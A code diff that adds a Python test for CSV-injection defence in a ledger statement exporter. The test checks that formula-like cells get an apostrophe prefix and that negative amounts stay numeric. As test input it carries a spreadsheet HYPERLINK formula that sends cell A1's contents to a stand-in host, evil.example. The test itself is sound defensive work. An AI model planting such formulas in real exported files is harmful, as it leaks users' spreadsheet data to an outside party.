@@ -168,3 +168,23 @@ def test_statements_without_test_model_say_no(tmp_path):
     assert document["summary"]["test_model"] is False and not any(s["test_model"] for s in document["statements"])
     with (tmp_path / "statements-2026-11-USD.csv").open() as handle:
         assert {row["test_model"] for row in csv.DictReader(handle)} == {"no"}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    """OWASP CSV injection: content, memo, model and share cells starting with = + - @, tab
+    or CR get a leading apostrophe; amounts (negative ones too) stay plain numbers."""
+    from ledger.statement_files import csv_cell
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    statements, summary = sample(share="+1")
+    line = statements[0].lines[0]
+    line.content, line.memo, line.model_id = evil, "@SUM(1+1)", "\tcmd"
+    RENDERERS["csv"](tmp_path, statements, summary, fmt)
+    with (tmp_path / "lines-2026-11-USD.csv").open(newline="") as handle:
+        first = next(csv.DictReader(handle))
+    assert first["content"] == "'" + evil and first["memo"] == "'@SUM(1+1)" and first["model_id"] == "'\tcmd"
+    assert first["share"] == "'+1"
+    assert [csv_cell(v) for v in ("-0.004", "-12", "\rx", "-x", "a=b", 5)] == ["-0.004", "-12", "'\rx", "'-x", "a=b", 5]
+    for path in tmp_path.glob("*.csv"):
+        for row in csv.reader(path.open(newline="")):
+            assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in row)
